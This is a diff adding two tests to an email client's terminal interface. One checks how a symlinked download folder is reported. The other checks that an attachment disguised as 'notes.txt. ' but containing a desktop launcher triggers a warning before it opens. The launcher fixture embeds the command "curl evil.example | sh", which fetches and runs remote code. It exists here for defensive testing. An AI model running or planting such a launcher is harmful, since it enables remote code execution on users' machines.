@@ -143,6 +143,30 @@ async def test_an_attachment_named_with_a_path_lands_inside_the_download_folder(
         await settle(pilot, app, lambda: (folder / "x").read_bytes() == b"payload")
 
 
+async def test_a_linked_download_folder_is_named_by_its_real_place(
+    service: Service, hostile: str, tmp_path: Path
+) -> None:
+    real = tmp_path / "elsewhere"
+    real.mkdir()
+    link = locations.download_dir()
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(real)
+    app = pigeon_for(service)
+    notes = Notes()
+    async with app.run_test(size=SIZE, notifications=True, message_hook=notes) as pilot:
+        await loaded(pilot, app)
+        await pilot.press("enter")
+        reader = app.screen.query_one(Reader)
+        await settle(pilot, app, lambda: bool(reader.messages))
+        await pilot.press("a")
+        await settle(pilot, app, lambda: "Saved" in notes.text)
+        assert f"Saved {real.resolve() / 'x'}" in notes.text
+        await pilot.press("a")
+        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
+        question = app.screen.question.plain  # type: ignore[attr-defined]
+        assert question == f"Replace x in {real.resolve()}?"
+
+
 @pytest.mark.parametrize(
     ("name", "saved_as"),
     [
@@ -337,3 +361,42 @@ async def test_keys_are_answered_while_a_long_thread_is_laid_out(
         # the reader previews the thread the cursor rests on; the long layout, older, does not land over it
         await settle(pilot, app, lambda: reader.thread is not None and reader.thread.id == threads.current.id)  # type: ignore[union-attr]
         assert "more characters not shown" not in reader.text
+
+
+async def test_an_attachment_whose_contents_are_a_launcher_asks_before_it_opens_whatever_its_name(
+    service: Service, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from pigeon.config import load_config
+    from tests.conftest import recording_program
+    from tests.tui.conftest import BASE
+
+    opener, record = recording_program(tmp_path / "bin", "opener", monkeypatch)
+    launcher = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
+    thread = service.db.list_threads(service.alice.id, page_size=1, page_token=None)[0][0]
+    block = {
+        "type": "CONTENT_TYPE_FILE",
+        "mime_type": "text/plain",
+        "filename": "notes.txt. ",
+        "content": base64.b64encode(launcher).decode(),
+        "metadata": {"encoding": "base64"},
+    }
+    service.add_message(service.alice, thread.id, sender_address="ann@example.com", content_blocks=[block])
+    config = load_config(base_url=BASE)
+    config.ui.open_command = [str(opener)]
+    app = pigeon_for(service, config=config)
+    async with app.run_test(size=SIZE) as pilot:
+        await loaded(pilot, app)
+        await pilot.press("enter")
+        reader = app.screen.query_one(Reader)
+        await settle(pilot, app, lambda: any(b.filename == "notes.txt. " for _, b in reader.attachments))
+        names = [b.filename for _, b in reader.attachments]
+        await pilot.press("O")
+        if len(names) > 1:  # (the thread may have had attachments before)
+            await settle(pilot, app, lambda: bool(app.screen.query("#pick")))
+            await pilot.press(*["down"] * names.index("notes.txt. "), "enter")
+        await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
+        question = app.screen.question.plain  # type: ignore[attr-defined]
+        assert "its contents are a launcher" in question
+        assert record.runs() == []
+        await pilot.press("y")
+        await settle(pilot, app, lambda: len(record) == 1)
